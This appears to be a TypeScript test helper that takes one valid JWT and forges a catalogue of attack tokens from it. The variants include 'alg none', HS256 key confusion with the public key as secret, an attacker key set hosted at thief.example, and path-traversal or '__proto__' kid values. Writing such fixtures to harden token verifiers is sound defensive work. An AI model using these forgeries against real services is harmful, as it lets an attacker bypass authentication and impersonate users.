import {
  createHmac,
  createPrivateKey,
  createSign,
  generateKeyPairSync,
  type JsonWebKey,
  type KeyObject,
} from 'node:crypto'

type Json = Readonly<Record<string, unknown>>

const encoded = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

export const decoded = (part: string | undefined): Json =>
  JSON.parse(Buffer.from(part ?? '', 'base64url').toString())

const thief = generateKeyPairSync('rsa', { modulusLength: 2048 })

const rsa = (input: string, key: KeyObject): string =>
  createSign('sha256').update(input).sign(key).toString('base64url')

const hmac = (input: string, secret: string | Buffer): string =>
  createHmac('sha256', secret).update(input).digest('base64url')

/** Signs anything at all with a key of our own choice; by default one that nobody trusts. */
export function sign(header: Json, payload: unknown, key: KeyObject = thief.privateKey): string {
  const input = `${encoded(header)}.${encoded(payload)}`
  return `${input}.${rsa(input, key)}`
}

export const privateKeyOf = (jwk: JsonWebKey): KeyObject =>
  createPrivateKey({ key: jwk, format: 'jwk' })

/** Signs with HMAC, the secret being what everybody knows: the public key. */
function confused(header: Json, payload: Json, secret: string | Buffer): string {
  const input = `${encoded({ ...header, alg: 'HS256' })}.${encoded(payload)}`
  return `${input}.${hmac(input, secret)}`
}

/**
 * Forges every well-known attack on a JWT out of a good one.
 *
 * @param publicKey of the good token, as everybody can get it
 * @spec https://www.rfc-editor.org/rfc/rfc8725#section-2.1
 */
export function forgeries(good: string, publicKey: KeyObject): Readonly<Record<string, string>> {
  const [head, body, signature = ''] = good.split('.')
  const header = decoded(head)
  const payload = decoded(body)
  const unsigned = (alg: string) => `${encoded({ ...header, alg })}.${body}.`
  const own = thief.publicKey.export({ format: 'jwk' })
  const spki = publicKey.export({ format: 'pem', type: 'spki' }).toString()
  const modulus = String(publicKey.export({ format: 'jwk' })['n'] ?? '')
  const jku = 'https://thief.example/jwks'
  return {
    'alg none': unsigned('none'),
    'alg None': unsigned('None'),
    'alg none with the signature': `${unsigned('none')}${signature}`,
    'the signature cut off': `${head}.${body}.`,
    'two parts only': `${head}.${body}`,
    'HS256 with the public key as PEM': confused(header, payload, spki),
    'HS256 with the public key as PEM, trimmed': confused(header, payload, spki.trim()),
    'HS256 with the modulus': confused(header, payload, Buffer.from(modulus, 'base64url')),
    'HS256 with nothing': confused(header, payload, ''),
    "a thief's key under the good kid": sign(header, payload),
    "a thief's key without kid": sign({ ...header, kid: undefined }, payload),
    "a thief's key in the header": sign({ ...header, jwk: own }, payload),
    "a thief's key in the header, without kid": sign(
      { alg: 'RS256', typ: header['typ'], jwk: own },
      payload,
    ),
    "a thief's key set": sign({ ...header, jku, x5u: jku }, payload),
    'a kid that is a path': sign({ ...header, kid: '../../../../dev/null' }, payload),
    'a kid of the prototype': sign({ ...header, kid: '__proto__' }, payload),
    'a kid that is a number': sign({ ...header, kid: 1 }, payload),
    'an extension that must be understood': sign({ ...header, crit: ['b64'], b64: false }, payload),
    'another algorithm': sign({ ...header, alg: 'PS256' }, payload),
    'an algorithm that is no text': sign({ ...header, alg: ['RS256'] }, payload),
    'another header, the good signature': `${encoded({ ...header, typ: 'x' })}.${body}.${signature}`,
    'another payload, the good signature': `${head}.${encoded({ ...payload, exp: 9e9 })}.${signature}`,
    'a payload that is no JSON': sign(header, '{"iss":'),
    'a payload that is a list': sign(header, [payload]),
    'a header that is no JSON': `${encoded('{')}.${body}.${signature}`,
    'a header that is null': `${encoded(null)}.${body}.${signature}`,
    'five parts': `${good}.a.b`,
    'dots alone': '..',
  }
}
